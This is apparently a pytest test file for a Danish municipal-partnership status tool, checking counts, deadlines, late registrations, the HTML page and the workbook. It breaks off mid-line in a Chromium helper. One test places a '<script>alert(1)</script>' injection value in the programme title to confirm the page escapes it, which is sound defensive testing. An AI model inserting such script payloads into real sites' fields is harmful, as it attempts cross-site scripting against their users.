"""kldocs status: who was invited, registered, has an agreement, approved, is in a network — and who is late."""

from __future__ import annotations

import base64
import dataclasses
import datetime as dt
import hashlib
import json
import re
import shutil
import struct
import subprocess
import zipfile
from pathlib import Path

import lxml.html
import openpyxl
import pytest
from click.testing import CliRunner
from openxml_audit import FileFormat, OpenXmlValidator

from conftest import EXAMPLE_DIR
from kldocs.app import build_all, check_folder, make
from kldocs.cli import cli
from kldocs.errors import InputError
from kldocs.inputs.program import load_program
from kldocs.inputs.registrations import load_registrations
from kldocs.status import (
    DATE_FORMAT,
    follow_up,
    html_page,
    page_context,
    status_report,
    summary_lines,
    table_lines,
    workbook,
    write_file,
    write_reminders,
)
from programfactory import with_registration_days, without_registrations

AFTER = dt.date(2021, 8, 20)  # four days after the registration deadline, 16 August 2021 at noon
DEADLINE = dt.date(2021, 8, 16)
LATER = dt.date(2021, 9, 20)  # after Gladsaxe's (2 September) and Aarhus' (8 September) councils approved


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """The example built as `kldocs build` writes it: invitations to all 98, networks, draft agreements, summary."""
    out = tmp_path_factory.mktemp("built") / "out"
    build_all(EXAMPLE_DIR, out)
    return out


@pytest.fixture
def out(built, tmp_path) -> Path:
    """A copy of the built folder to change."""
    return Path(shutil.copytree(built, tmp_path / "out"))


def written_from(out: Path, folder: Path) -> Path:
    """``out`` as though its documents had been written from ``folder`` (a copy of the example a test edits)."""
    for manifest in out.glob("*/manifest.json"):
        document = json.loads(manifest.read_text(encoding="utf-8"))
        document["program"]["folder"] = str(folder.absolute())
        manifest.write_text(json.dumps(document, ensure_ascii=False, indent=1), encoding="utf-8")
    return out


@pytest.fixture
def own(out, example_copy) -> Path:
    """A copy of the built folder, written (it says) from the copy of the example the test edits."""
    return written_from(out, example_copy)


def by_name(report):
    return {row.municipality.name: row for row in report.rows}


def add_approval_milestone(folder: Path, when: str = "2021-10") -> None:
    path = folder / "program.yaml"
    milestone = (f"    - when: {when}\n      text: Kommunalbestyrelserne godkender partnerskabsaftalen\n"
                 "      kind: deadline\n      approval: ja\n")
    path.write_text(path.read_text(encoding="utf-8").replace("\n\npricing:", f"\n{milestone}\npricing:", 1),
                    encoding="utf-8")


# --- What the files say ---------------------------------------------------------------------------


class DescribeTheFollowUp:
    def it_has_a_row_per_invited_municipality_in_danish_order(self, built):
        report = follow_up(EXAMPLE_DIR, built, date=AFTER)
        assert len(report.rows) == 98
        names = [row.municipality.name for row in report.rows]
        assert names[:2] == ["Albertslund", "Allerød"] and names[-4:] == ["Ærø", "Aabenraa", "Aalborg", "Aarhus"]
        assert report.count(invited=True) == 98 and report.count(registered=True) == 24

    def it_reads_the_drafts_and_the_networks_the_build_wrote(self, built):
        rows = by_name(follow_up(EXAMPLE_DIR, built, date=AFTER))
        assert rows["Aarhus"].agreement == "draft" and rows["Aarhus"].network == 2
        assert rows["Albertslund"].agreement is None and rows["Albertslund"].network is None
        assert {row.network for row in rows.values() if row.registered} == {1, 2, 3}

    def it_tells_a_final_agreement_by_its_category(self, out):
        make("agreements", EXAMPLE_DIR, out / "agreements", municipalities=("Aarhus",), final=True, force=True)
        rows = by_name(follow_up(EXAMPLE_DIR, out, date=AFTER))
        assert rows["Aarhus"].agreement == "final" and rows["Aalborg"].agreement == "draft"

    def it_says_unknown_for_an_agreement_it_cannot_read(self, out):
        (out / "agreements" / "0751-aarhus-partnerskabsaftale.docx").write_bytes(b"signed and scanned")
        assert by_name(follow_up(EXAMPLE_DIR, out, date=AFTER))["Aarhus"].agreement == "unknown"

    def it_takes_the_approval_date_from_the_registrations(self, built):
        rows = by_name(follow_up(EXAMPLE_DIR, built, date=LATER))
        assert rows["Gladsaxe"].approved == dt.date(2021, 9, 2) and rows["Aarhus"].approved == dt.date(2021, 9, 8)
        assert follow_up(EXAMPLE_DIR, built, date=LATER).approved == 2
        assert follow_up(EXAMPLE_DIR, built, date=AFTER).approved == 0  # neither had approved by 20 August

    def it_counts_only_those_invited_as_invited(self, tmp_path):
        out = tmp_path / "out"
        make("invitations", EXAMPLE_DIR, out / "invitations", to="nordjylland")
        rows = by_name(follow_up(EXAMPLE_DIR, out, date=AFTER))
        assert len(rows) == 11 + 24 - 3  # Hjørring, Vesthimmerland and Aalborg are in both
        assert rows["Læsø"].invited and not rows["Læsø"].registered and rows["Læsø"].late is None
        assert not rows["Aarhus"].invited and rows["Aarhus"].registered and rows["Aarhus"].late is None

    def it_says_when_a_row_gives_no_day_and_is_counted_for_a_day_gone_by(self, example_copy):
        with_registration_days(example_copy, {"Vesthimmerland": "", "Aarhus Kommune": ""})
        notes = follow_up(example_copy, example_copy / "out", date=AFTER).notes
        rows = {r.municipality.name: r.row for r in load_registrations(example_copy, load_program(example_copy))}
        assert (f"registrations.csv: 2 registrations give no day in 'Tilmeldingsdato' (row {rows['Aarhus']} (Aarhus), "
                f"row {rows['Vesthimmerland']} (Vesthimmerland)), so they are counted as made by 20. august 2021"
                in notes), notes
        other = example_copy.parent / "other"
        shutil.copytree(example_copy, other)
        shutil.copy(EXAMPLE_DIR / "registrations.csv", other / "registrations.csv")
        with_registration_days(other, {})  # every row gives its day
        assert not [n for n in follow_up(other, other / "out", date=AFTER).notes if "no day" in n]

    def it_says_when_registrations_without_their_day_are_counted_for_a_day_gone_by(self, example_copy):
        note = ("registrations.csv has no column 'Tilmeldingsdato': every registration in it is counted as made by "
                "20. august 2021; give the day each registered in a column of that name, or name yours under "
                "registration.columns.registered")
        assert note in follow_up(example_copy, example_copy / "out", date=AFTER).notes
        path = example_copy / "registrations.csv"
        lines = path.read_text(encoding="cp1252").splitlines()
        path.write_text("\n".join([lines[0] + ";Tidsstempel", *(line + ";01-08-2021 10:00" for line in lines[1:])])
                        + "\n", encoding="cp1252")
        notes = follow_up(example_copy, example_copy / "out", date=AFTER).notes
        assert notes[0].endswith("by 20. august 2021; if its column 'Tidsstempel' is the moment each registered, "
                                 "set registration.columns.registered: Tidsstempel")
        program = example_copy / "program.yaml"
        program.write_text(program.read_text(encoding="utf-8").replace(
            "registration:\n", "registration:\n  columns:\n    registered: Tidsstempel\n", 1), encoding="utf-8")
        assert not any("Tilmeldingsdato" in n or "Tidsstempel" in n
                       for n in follow_up(example_copy, example_copy / "out", date=AFTER).notes)
        assert not any("has no column" in n for n in follow_up(example_copy, example_copy / "out").notes)  # today

    def it_says_when_the_day_is_before_the_invitations_went_out(self, built):
        note = ("On 1. juni 2021 the invitations had not gone out (they are dated 14. juni 2021, letter.date): "
                "Invited says whom they are written to")
        assert note in follow_up(EXAMPLE_DIR, built, date=dt.date(2021, 6, 1)).notes
        assert not any("had not gone out" in n for n in follow_up(EXAMPLE_DIR, built, date=AFTER).notes)

    def it_says_so_when_no_invitations_were_written(self, tmp_path):
        report = follow_up(EXAMPLE_DIR, tmp_path / "nothing", date=AFTER)
        assert not report.invitations_known and len(report.rows) == 24
        assert report.notes[1].startswith(f"{tmp_path / 'nothing' / 'invitations'}: no invitations listed in "
                                          "manifest.json, so kldocs cannot tell who was invited")
        assert table_lines(report)[1].split()[2] == "?"

    def it_leaves_out_a_manifest_it_cannot_read_with_a_note(self, out):
        (out / "agreements" / "manifest.json").write_text("{not json", encoding="utf-8")
        report = follow_up(EXAMPLE_DIR, out, date=AFTER)
        assert report.count(agreement="draft") == 0
        assert f"{out / 'agreements' / 'manifest.json'}: cannot be read, so it is left out" in report.notes

    def it_prefers_the_line_up_settled_in_the_programme_folder(self, own, example_copy):
        (example_copy / "networks.csv").write_text("Kode;Kommune;Region;Netværk\n0751;Aarhus;Region Midtjylland;7\n",
                                                   encoding="utf-8")
        rows = by_name(follow_up(example_copy, own, date=AFTER))
        assert rows["Aarhus"].network == 7 and rows["Aalborg"].network is None

    def it_shows_the_latest_reminder(self, out):
        for day in (dt.date(2021, 8, 2), dt.date(2021, 8, 9)):
            write_reminders(EXAMPLE_DIR, out / "reminders", date=day, to="Læsø, Fanø")
        rows = by_name(follow_up(EXAMPLE_DIR, out, date=AFTER))
        assert rows["Læsø"].reminded == dt.date(2021, 8, 9) and rows["Albertslund"].reminded is None
        earlier = by_name(follow_up(EXAMPLE_DIR, out, date=dt.date(2021, 8, 5)))
        assert earlier["Læsø"].reminded == dt.date(2021, 8, 2)  # the one of 9 August was not written yet


class DescribeWhoIsLate:
    def it_counts_no_one_late_for_not_taking_the_offer_after_the_deadline(self, built):
        after = follow_up(EXAMPLE_DIR, built, date=AFTER)
        assert after.count(invited=True, registered=False) == 74
        assert {r.late for r in after.rows} == {None}  # no approval milestone: no one owes anything
        assert by_name(after)["Albertslund"].late is None and by_name(after)["Aarhus"].late is None

    def it_counts_no_council_late_when_the_time_plan_marks_no_approval(self, built):
        assert follow_up(EXAMPLE_DIR, built, date=dt.date(2030, 1, 1)).count(late="approval") == 0

    def it_counts_the_councils_without_an_approval_date_late_after_the_approval_milestone(self, own, example_copy):
        add_approval_milestone(example_copy, "2021-10")
        assert follow_up(example_copy, own, date=dt.date(2021, 10, 31)).count(late="approval") == 0
        november = follow_up(example_copy, own, date=dt.date(2021, 11, 1))
        assert november.count(late="approval") == 22
        assert by_name(november)["Gladsaxe"].late is None and by_name(november)["København"].late == "approval"

    def it_counts_an_approval_dated_after_the_day_as_missing(self, own, example_copy):
        add_approval_milestone(example_copy, "2021-09-05")
        rows = by_name(follow_up(example_copy, own, date=dt.date(2021, 9, 6)))
        assert rows["Gladsaxe"].late is None  # approved on 2 September
        assert rows["Aarhus"].late == "approval"  # approved only on 8 September


class DescribeARegistrationAfterTheDeadline:
    """A municipality that registered on a day after the deadline (the export's Tilmeldingsdato) is pointed out."""

    @pytest.fixture
    def late_copy(self, example_copy):
        # the deadline is 16 August 2021 at noon; the export gives days (and times, which are not compared)
        with_registration_days(example_copy, {"Aarhus Kommune": "2021-08-18 10:02:00", "Hjørring": "17-08-2021",
                                              "Odense Kommune": "2021-08-16 15:30:00", "Køge": "2021-08-16 11:45:00",
                                              "Roskilde": "16-08-2021"}, default="2021-08-02")
        return example_copy

    def it_marks_those_that_registered_on_a_later_day(self, own, late_copy):
        report = follow_up(late_copy, own, date=AFTER)
        rows = by_name(report)
        assert rows["Aarhus"].registered_on == dt.date(2021, 8, 18) and rows["Aarhus"].after_deadline
        assert [r.municipality.name for r in report.after_deadline] == ["Hjørring", "Odense", "Aarhus"]  # Danish order
        assert rows["Odense"].after_deadline  # on the deadline's day, at 15.30: after its 12.00
        assert not rows["Køge"].after_deadline  # that day at 11.45: on time
        assert not rows["Roskilde"].after_deadline  # that day, no time given: on time
        assert rows["Aarhus"].late is None  # the offer was taken: no one owes anything

    def it_says_so_in_the_terminal(self, own, late_copy):
        report = follow_up(late_copy, own, date=AFTER)
        aarhus = next(line for line in table_lines(report) if " Aarhus " in line)
        assert aarhus.split()[2:5] == ["yes", "yes,", "late"]
        assert ("Registered after the deadline: Hjørring (17. aug. 2021), Odense (16. aug. 2021 kl. 15.30) and "
                "Aarhus (18. aug. 2021 kl. 10.02)") in summary_lines(report)

    def it_reads_the_danish_kldocs_prints_and_refuses_a_day_it_cannot_read(self, own, example_copy):
        with_registration_days(example_copy, {"Aarhus Kommune": "18. august 2021 kl. 12.01",
                                              "Hjørring": "7/1/2021 4:00:00 PM"}, default="2021-08-02")
        # a day kldocs cannot read (an American form's 7/1/2021: July or January?) is refused, as status counts by it
        assert check_folder(example_copy).problems == [
            "registrations.csv, row 24, Tilmeldingsdato: '7/1/2021 4:00:00 PM' is not a date; write it as 14-06-2021 "
            "or 2021-06-14"]
        path = example_copy / "registrations.csv"
        path.write_text(path.read_text(encoding="cp1252").replace(";7/1/2021 4:00:00 PM", ";2021-08-02"),
                        encoding="cp1252")
        report = follow_up(example_copy, own, date=AFTER)
        assert [r.municipality.name for r in report.after_deadline] == ["Aarhus"]

    def it_says_nothing_of_it_when_the_export_gives_no_days(self, built):
        report = follow_up(EXAMPLE_DIR, built, date=AFTER)
        assert report.after_deadline == () and not any("after the deadline" in line for line in summary_lines(report))
        assert 'value="efter-fristen"' not in html_page(report)

    def it_says_so_on_the_page_and_lets_the_reader_show_only_them(self, own, late_copy):
        doc = page(own, folder=late_copy)
        aarhus = next(r for r in doc.findall(".//tbody/tr") if r.findtext("th") == "Aarhus")
        assert aarhus[4].text_content() == "Ja, efter fristen (18. august 2021 kl. 10.02)"
        assert "efter-fristen" in aarhus.get("data-vis").split()
        assert [o.text for o in doc.findall(".//select[@id='vis']/option")][-1] == "Tilmeldt efter fristen"
        totals = {d.findtext("dt"): d.findtext("dd") for d in doc.findall(".//dl[@class='totals']/div")}
        assert totals["Tilmeldt efter fristen"] == "3" and totals["Tilmeldt"].startswith("24 ")

    def it_says_so_in_the_workbook(self, own, late_copy, tmp_path):
        path = tmp_path / "status.xlsx"
        path.write_bytes(workbook(follow_up(late_copy, own, date=AFTER)))
        rows = {row[1].value: row[4].value for row in openpyxl.load_workbook(path)["Status"].iter_rows(min_row=2)}
        assert rows["Aarhus"] == "ja, efter fristen" and rows["Køge"] == "ja" and rows["Albertslund"] == "nej"


class DescribeARegistrationDatedAfterTheDay:
    """A registration the export dates after the day of the report is shown but not counted, as an approval is."""

    @pytest.fixture
    def dated_copy(self, example_copy):
        # the deadline is 16 August 2021 at noon; most registered on 2 August, Hjørring and Aarhus after the deadline
        with_registration_days(example_copy, {"Aarhus Kommune": "2021-08-18 10:02:00", "Hjørring": "17-08-2021"},
                               default="2021-08-02")
        return example_copy

    def it_counts_no_one_registered_before_anyone_registered(self, own, dated_copy):
        report = follow_up(dated_copy, own, date=dt.date(2021, 8, 1))
        assert report.count(registered=True) == 0 and len(report.registers_later) == 24
        assert report.after_deadline == () and report.networks == 0
        lines = summary_lines(report)
        assert lines[:2] == [
            "On 1. august 2021: 98 invited, 0 registered, 0 agreements (0 drafts, 0 final), 0 approved by their "
            "council, 0 in 0 networks",
            "Registration deadline mandag den 16. august 2021 kl. 12.00 (in 15 days): 98 invited municipalities not "
            "registered yet",
        ]
        assert not any("after the deadline" in line for line in lines)
        assert lines[2].startswith("Registrations dated after 1. august 2021, so not counted: Esbjerg (2. aug. 2021), ")
        assert lines[2].endswith("Aalborg (2. aug. 2021) and Aarhus (18. aug. 2021)")

    def it_shows_no_network_for_a_registration_not_counted_yet(self, own, dated_copy):
        report = follow_up(dated_copy, own, date=dt.date(2021, 8, 10))
        rows = by_name(report)
        assert rows["Aarhus"].registers_later and rows["Aarhus"].network is None
        assert rows["Aalborg"].registered and rows["Aalborg"].network is not None
        assert (f"The networks are those of the line-up in {own / 'networks' / 'networks.csv'}, composed of "
                "registrations that include 2 registrations dated after 10. august 2021; those municipalities are "
                "shown in no network") in report.notes
        assert not any("line-up" in note for note in follow_up(dated_copy, own, date=AFTER).notes)

    def it_calls_no_one_late_before_the_deadline_has_come(self, own, dated_copy):
        report = follow_up(dated_copy, own, date=dt.date(2021, 8, 10))
        rows = by_name(report)
        assert report.count(registered=True) == 22 and report.after_deadline == ()
        assert not rows["Aarhus"].registered and rows["Aarhus"].registers_later and not rows["Aarhus"].after_deadline
        aarhus = next(line for line in table_lines(report) if " Aarhus " in line)
        assert aarhus.split()[2:5] == ["yes", "not", "yet"]
        assert summary_lines(report)[2] == ("Registrations dated after 10. august 2021, so not counted: Hjørring "
                                            "(17. aug. 2021) and Aarhus (18. aug. 2021)")

    def it_counts_each_from_its_day_and_late_only_after_the_deadline(self, own, dated_copy):
        rows = by_name(follow_up(dated_copy, own, date=dt.date(2021, 8, 17)))
        assert rows["Hjørring"].registered and rows["Hjørring"].after_deadline
        assert rows["Aarhus"].registers_later and not rows["Aarhus"].after_deadline
        assert by_name(follow_up(dated_copy, own, date=AFTER))["Aarhus"].after_deadline

    def it_counts_no_council_late_that_had_not_registered(self, own, dated_copy):
        add_approval_milestone(dated_copy, "2021-08-05")
        rows = by_name(follow_up(dated_copy, own, date=dt.date(2021, 8, 10)))
        assert rows["Aalborg"].late == "approval" and rows["Aarhus"].late is None

    def it_says_so_on_the_page(self, own, dated_copy):
        doc = page(own, dt.date(2021, 8, 10), folder=dated_copy)
        aarhus = next(r for r in doc.findall(".//tbody/tr") if r.findtext("th") == "Aarhus")
        assert aarhus[4].text_content() == "Nej, tilmeldte sig først 18. august 2021"
        assert aarhus.get("data-vis").split() == ["inviteret", "ikke-tilmeldt"]
        totals = {d.findtext("dt"): d.findtext("dd") for d in doc.findall(".//dl[@class='totals']/div")}
        assert totals["Tilmeldt"] == "22 (22 %)" and totals["Aftaler i udkast"] == "22"
        assert "Tilmeldt efter fristen" not in totals
        notices = [" ".join(li.text_content().split()) for li in doc.findall(".//ul[@class='deadlines']/li")]
        assert "Hjørring og Aarhus tilmeldte sig først efter 10. august 2021 og er ikke talt med." in notices

    def it_says_so_in_the_workbook(self, own, dated_copy, tmp_path):
        path = tmp_path / "status.xlsx"
        path.write_bytes(workbook(follow_up(dated_copy, own, date=dt.date(2021, 8, 10))))
        book = openpyxl.load_workbook(path)
        rows = {row[1].value: row[4].value for row in book["Status"].iter_rows(min_row=2)}
        assert rows["Aarhus"] == "nej, tilmeldte sig først 18. august 2021" and rows["Aalborg"] == "ja"
        overview = [row[0] for row in book["Overblik"].iter_rows(values_only=True)]
        assert "Hjørring og Aarhus tilmeldte sig først efter 10. august 2021 og er ikke talt med." in overview


class DescribeAnAgreementWithoutARegistration:
    """A municipality whose agreement was written but whose registration is gone (it withdrew?) is named, not counted."""

    @pytest.fixture
    def withdrawn(self, example_copy):
        without_registrations(example_copy, "Aarhus Kommune")
        return example_copy

    def it_names_it_and_counts_only_the_agreements_of_the_registered(self, own, withdrawn):
        report = follow_up(withdrawn, own, date=AFTER)
        aarhus = by_name(report)["Aarhus"]
        assert aarhus.withdrawn and not aarhus.registered and aarhus.agreement == "draft"
        assert [r.municipality.name for r in report.withdrawn] == ["Aarhus"] and aarhus.late is None
        lines = summary_lines(report)
        assert lines[0].startswith("On 20. august 2021: 98 invited, 23 registered, 23 agreements (23 drafts, 0 final)")
        agreement = own / "agreements" / "0751-aarhus-partnerskabsaftale.docx"
        assert f"Agreement but no registration (withdrawn?), so not counted: Aarhus ({agreement})" in lines
        row = next(line for line in table_lines(report) if " Aarhus " in line)
        assert row.split()[2:6] == ["yes", "no,", "withdrawn?", "draft"]

    def it_names_it_though_it_was_never_invited(self, own, withdrawn):
        (own / "invitations" / "manifest.json").unlink()
        report = follow_up(withdrawn, own, date=AFTER)
        assert len(report.rows) == 24 and [r.municipality.name for r in report.withdrawn] == ["Aarhus"]

    def it_says_nothing_of_it_once_its_agreement_is_moved_out_of_the_folder(self, own, withdrawn):
        (own / "agreements" / "0751-aarhus-partnerskabsaftale.docx").unlink()
        report = follow_up(withdrawn, own, date=AFTER)
        assert report.withdrawn == () and by_name(report)["Aarhus"].agreement is None
        assert not any("withdrawn" in line for line in summary_lines(report))

    def it_says_nothing_of_it_when_every_agreement_holder_is_registered(self, built):
        report = follow_up(EXAMPLE_DIR, built, date=AFTER)
        assert report.withdrawn == () and 'value="aftale-uden-tilmelding"' not in html_page(report)

    def it_says_so_on_the_page_and_lets_the_reader_show_only_them(self, own, withdrawn):
        doc = page(own, folder=withdrawn)
        aarhus = next(r for r in doc.findall(".//tbody/tr") if r.findtext("th") == "Aarhus")
        assert aarhus[4].text_content() == "Nej, men har en aftale" and aarhus[5].text_content() == "Udkast"
        assert "aftale-uden-tilmelding" in aarhus.get("data-vis").split()
        assert [o.text for o in doc.findall(".//select[@id='vis']/option")][-1] == "Aftale uden tilmelding"
        totals = {d.findtext("dt"): d.findtext("dd") for d in doc.findall(".//dl[@class='totals']/div")}
        assert totals["Aftaler i udkast"] == "23" and totals["Aftale uden tilmelding"] == "1"
        notice = next(li for li in doc.findall(".//ul[@class='deadlines']/li") if "har en aftale" in li.text_content())
        assert notice.get("class") == "late" and " ".join(notice.text_content().split()) == (
            "Aarhus har en aftale, men står ikke i registrations.csv. Er kommunen trådt ud af partnerskabet? "
            "Aftalen er ikke talt med.")

    def it_says_so_in_the_workbook(self, own, withdrawn, tmp_path):
        path = tmp_path / "status.xlsx"
        path.write_bytes(workbook(follow_up(withdrawn, own, date=AFTER)))
        book = openpyxl.load_workbook(path)
        rows = {row[1].value: row for row in book["Status"].iter_rows(min_row=2)}
        assert [c.value for c in rows["Aarhus"][4:6]] == ["nej, men har en aftale", "udkast"]
        overview = dict((row[0], row[1]) for row in book["Overblik"].iter_rows(values_only=True) if row[0])
        assert overview["Aftaler i udkast"] == 23 and overview["Aftale uden tilmelding"] == 1
        assert any(str(label).startswith("Aarhus har en aftale, men står ikke i registrations.csv.") for label in overview)


# --- The terminal ------------------------------------------------------------------------------


class DescribeAnotherPartnershipsOutput:
    """Every command writes to out unless told otherwise: the follow-up reads only its own partnership's documents."""

    @staticmethod
    def retitled(folder: Path) -> Path:
        program = folder / "program.yaml"
        text = program.read_text(encoding="utf-8")
        program.write_text(re.sub(r"(?m)^title: .*$", "title: Kommunalt partnerskab om grøn omstilling", text),
                           encoding="utf-8")
        return folder

    def it_refuses_to_report_on_another_partnerships_documents(self, example_copy, built):
        with pytest.raises(InputError) as caught:
            follow_up(self.retitled(example_copy), built, date=AFTER)
        assert caught.value.problems == [
            *(f"{built / kind / 'manifest.json'}: its files were written for the example kldocs comes with, as "
              "kldocs demo writes it" for kind in ("invitations", "agreements", "networks")),
            "give the folder this partnership's documents were written to with --out"]

    def it_refuses_to_remind_those_another_partnership_invited(self, example_copy, built, tmp_path):
        with pytest.raises(InputError) as caught:
            write_reminders(self.retitled(example_copy), tmp_path / "r", date=DEADLINE - dt.timedelta(days=7),
                            invitations=built / "invitations")
        assert caught.value.problems[-1] == ("give the folder this partnership's documents were written to with "
                                             "--invitations (or say whom with --to)")
        assert not (tmp_path / "r").exists()

    def it_takes_them_for_its_own_when_written_from_its_folder_since_retitled(self, example_copy, out):
        written_from(out, example_copy)
        assert follow_up(self.retitled(example_copy), out, date=AFTER).rows

    def it_takes_them_for_its_own_when_written_from_a_folder_since_moved(self, example_copy, out):
        written_from(out, example_copy)
        moved = example_copy.rename(example_copy.parent / "flyttet")
        assert follow_up(moved, out, date=AFTER).rows
        with pytest.raises(InputError):  # moved and retitled: nothing is left to tell it is the same
            follow_up(self.retitled(moved), out, date=AFTER)

    def it_takes_a_copy_of_the_same_title_beside_the_other_for_another_partnership(self, example_copy, out):
        """A binding round copied from the round of interest, say: the same title, another folder."""
        written_from(out, example_copy)
        copy = Path(shutil.copytree(example_copy, example_copy.parent / "bindende-runde"))
        with pytest.raises(InputError) as caught:
            follow_up(copy, out, date=AFTER)
        assert caught.value.problems[0] == (
            f"{out / 'invitations' / 'manifest.json'}: its files were written for the partnership in "
            f"{example_copy}, of the same title but another folder (a copy of it?)")

    def it_reads_a_manifest_that_names_no_partnership_as_before(self, example_copy, out):
        path = out / "invitations" / "manifest.json"
        path.write_text(re.sub(r'(?s)  "program": \{.*?\},\n', "", path.read_text(encoding="utf-8")), encoding="utf-8")
        assert '"program"' not in path.read_text(encoding="utf-8")
        for kind in ("agreements", "networks"):
            shutil.rmtree(out / kind)
        assert follow_up(self.retitled(example_copy), out, date=AFTER).rows


class DescribeTheTerminal:
    def it_prints_an_aligned_table(self, built):
        lines = table_lines(follow_up(EXAMPLE_DIR, built, date=LATER))
        assert lines[0].split() == ["Code", "Municipality", "Invited", "Registered", "Agreement", "Approved",
                                    "Network", "Reminded", "Late"]
        starts = [lines[0].index(h) for h in ("Invited", "Registered", "Agreement", "Approved", "Network")]
        for line in lines[1:]:
            assert all(line[s - 2:s] == "  " and line[s] != " " for s in starts), line
        aarhus = next(line for line in lines if " Aarhus " in line)
        assert aarhus.split() == ["0751", "Aarhus", "yes", "yes", "draft", "8.", "sep.", "2021", "2", "–"]

    def it_sums_up_and_names_the_deadlines(self, built):
        assert summary_lines(follow_up(EXAMPLE_DIR, built, date=AFTER)) == [
            "On 20. august 2021: 98 invited, 24 registered, 24 agreements (24 drafts, 0 final), 0 approved by their "
            "council, 24 in 3 networks",
            "Registration deadline mandag den 16. august 2021 kl. 12.00 passed 4 days ago: 74 invited municipalities "
            "did not register",
            "Council approvals dated after 20. august 2021, so not counted: Gladsaxe (2. sep. 2021) and Aarhus "
            "(8. sep. 2021)",
            "Council approval: no milestone of the time plan is marked approval: ja, so no council is counted late",
        ]
        aarhus = next(line for line in table_lines(follow_up(EXAMPLE_DIR, built, date=AFTER)) if " Aarhus " in line)
        assert aarhus.split()[4:7] == ["draft", "not", "yet"]
        before = summary_lines(follow_up(EXAMPLE_DIR, built, date=dt.date(2021, 8, 9)))
        assert before[1] == ("Registration deadline mandag den 16. august 2021 kl. 12.00 (in 7 days): 74 invited "
                             "municipalities not registered yet")

    def it_names_the_approval_milestone_when_there_is_one(self, own, example_copy):
        add_approval_milestone(example_copy, "2021-10")
        assert summary_lines(follow_up(example_copy, own, date=dt.date(2021, 11, 3)))[2] == (
            "Council approval by 31. oktober 2021 (Kommunalbestyrelserne godkender partnerskabsaftalen) passed "
            "3 days ago: 22 registered councils without an approval date, late")
        assert summary_lines(follow_up(example_copy, own, date=dt.date(2021, 10, 5)))[2] == (
            "Council approval by 31. oktober 2021 (Kommunalbestyrelserne godkender partnerskabsaftalen, in 26 days): "
            "22 registered councils without an approval date yet")


# --- The web page -------------------------------------------------------------------------------


def page(built, day=AFTER, folder=EXAMPLE_DIR):
    return lxml.html.fromstring(html_page(follow_up(folder, built, date=day)))


class DescribeTheWebPage:
    def it_is_danish_titled_and_complete_without_its_script(self, built):
        doc = page(built)
        assert doc.get("lang") == "da"
        assert doc.findtext(".//title") == "Status 20. august 2021: Stærke børnefællesskaber"
        assert doc.findtext(".//caption") == "Hver kommunes status 20. august 2021."
        rows = doc.findall(".//tbody/tr")
        assert len(rows) == 98
        aarhus = next(r for r in rows if r.findtext("th") == "Aarhus")
        # an approval dated after the day of the report: not yet, with the day the registrations give
        assert [c.text_content() for c in aarhus] == ["0751", "Aarhus", "Midtjylland", "Ja", "Ja", "Udkast",
                                                      "Ikke endnu (tiltrådt 8. september 2021)", "2", "–", "–"]
        assert "mangler-godkendelse" in aarhus.get("data-vis")  # not approved by 20 August
        notices = [" ".join(li.text_content().split()) for li in doc.findall(".//ul[@class='deadlines']/li")]
        assert ("Gladsaxe og Aarhus tiltrådte først deres aftaler efter 20. august 2021 og er ikke talt med som "
                "godkendte." in notices)
        one = page(built, dt.date(2021, 9, 5))  # Gladsaxe approved on 2 September, Aarhus on 8 September
        notices = [" ".join(li.text_content().split()) for li in one.findall(".//ul[@class='deadlines']/li")]
        assert "Aarhus tiltrådte først aftalen efter 5. september 2021 og er ikke talt med som godkendt." in notices
        assert "approval: ja" not in doc.text_content()  # a page for the reader, not for program.yaml's editor
        later = page(built, LATER)
        aarhus = next(r for r in later.findall(".//tbody/tr") if r.findtext("th") == "Aarhus")
        assert aarhus[6].text_content() == "8. september 2021" and "mangler-godkendelse" not in aarhus.get("data-vis")
        albertslund = rows[0]
        assert albertslund.get("class") is None and albertslund[-1].text_content() == "–"  # not registered, not late

    def it_gives_every_table_heading_its_scope(self, built):
        doc = page(built)
        assert [th.text_content() for th in doc.findall(".//thead/tr/th[@scope='col']")] == [
            "Kode", "Kommune", "Region", "Inviteret", "Tilmeldt", "Aftale", "Tiltrådt", "Netværk", "Påmindet",
            "Forsinket med"]
        assert len(doc.findall(".//tbody/tr/th[@scope='row']")) == 98
        assert doc.find(".//thead/tr/th[@data-key='kommune']").get("aria-sort") == "ascending"

    def it_labels_every_control(self, built):
        doc = page(built)
        controls = doc.findall(".//form//input") + doc.findall(".//form//select")
        assert [c.get("id") for c in controls] == ["soeg", "vis"]
        assert {label.get("for") for label in doc.findall(".//form//label")} == {"soeg", "vis"}
        assert doc.find(".//*[@id='antal']").get("aria-live") == "polite"

    def it_sorts_dates_and_filters_by_what_each_row_is(self, built):
        doc = page(built, LATER)
        aarhus = next(r for r in doc.findall(".//tbody/tr") if r.findtext("th") == "Aarhus")
        assert aarhus[6].get("data-sort") == "2021-09-08" and aarhus[6].text_content() == "8. september 2021"
        assert aarhus.get("data-vis") == "inviteret tilmeldt"
        assert doc.findall(".//tbody/tr")[0].get("data-vis") == "inviteret ikke-tilmeldt"

    def it_loads_nothing_and_runs_only_its_own_script(self, built):
        html = html_page(follow_up(EXAMPLE_DIR, built, date=AFTER))
        doc = lxml.html.fromstring(html)
        assert doc.xpath("//@src | //@href | //link | //iframe | //img") == []
        policy = doc.find(".//meta[@http-equiv='Content-Security-Policy']").get("content")

        def digest(tag):
            body = re.search(rf"<{tag}>(.*?)</{tag}>", html, re.S)[1]
            return "'sha256-" + base64.b64encode(hashlib.sha256(body.encode()).digest()).decode() + "'"

        assert policy.startswith("default-src 'none'; ")
        assert f"script-src {digest('script')};" in policy and f"style-src {digest('style')};" in policy

    def it_prints_data_as_the_same_text(self, example_copy, tmp_path):
        path = example_copy / "program.yaml"
        path.write_text(path.read_text(encoding="utf-8").replace(
            "title: Kommunalt partnerskab om stærke", "title: <script>alert(1)</script> & partnerskab om stærke", 1),
            encoding="utf-8")
        build_all(example_copy, tmp_path / "out")  # its own documents: another title is another partnership's
        html = html_page(follow_up(example_copy, tmp_path / "out", date=AFTER))
        assert "<h1>Status: &lt;script&gt;alert(1)&lt;/script&gt; &amp; partnerskab om stærke" in html
        assert html.count("<script>") == 1


def chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


needs_chromium = pytest.mark.skipif(chromium() is None, reason="needs chromium for the HTML page "
                                                               "(installed by .ci/run in CI)")


def headless(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """Chromium without a display, a network, updates or a profile of anyone's."""
    command = [chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
